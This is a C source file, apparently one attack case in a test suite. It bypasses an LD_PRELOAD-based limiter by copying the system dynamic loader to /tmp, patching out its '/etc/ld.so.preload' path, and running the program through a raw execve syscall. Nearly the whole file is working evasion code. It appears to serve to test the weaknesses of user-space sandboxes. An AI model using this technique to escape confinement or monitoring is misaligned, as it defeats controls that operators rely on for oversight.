/* B: a private copy of the loader, which preloads nothing, runs the program. Nothing in user space can stop that. */
#include "attack.h"

#include <link.h>
#include <sys/stat.h>
#include <sys/syscall.h>

static const char *loader_path(void)
{
    for (const struct link_map *object = _r_debug.r_map; object != NULL; object = object->l_next)
        if (strstr(object->l_name, "/ld-linux") != NULL)
            return object->l_name;
    return NULL;
}

int main(int count, char **arguments)
{
    driver_by(dlsym);
    if (count > 1) {
        unlink(arguments[1]);
        begin();
        try_all();
    }
    static char loader[4 << 20];
    static const char list[] = "/etc/ld.so.preload";
    char copy[] = "/tmp/loader-XXXXXX";
    FILE *file = fopen(loader_path(), "r");
    must(file == NULL, "the loader");
    size_t size = fread(loader, 1, sizeof loader, file);
    char *at = memmem(loader, size, list, sizeof list);
    must(at == NULL, list);
    at[1] = 'x'; /* another list, which is not there */
    int made = mkstemp(copy);
    must(made < 0 || fchmod(made, 0700) != 0 || write(made, loader, size) != (ssize_t)size, copy);
    close(made);
    unsetenv("LD_PRELOAD");
    pid_t child = fork();
    if (child == 0) /* past libc, by which the limiter would come along */
        syscall(SYS_execve, copy, (char *[]){copy, arguments[0], copy, NULL}, environ);
    int status = 1;
    waitpid(child, &status, 0);
    return status != 0;
}
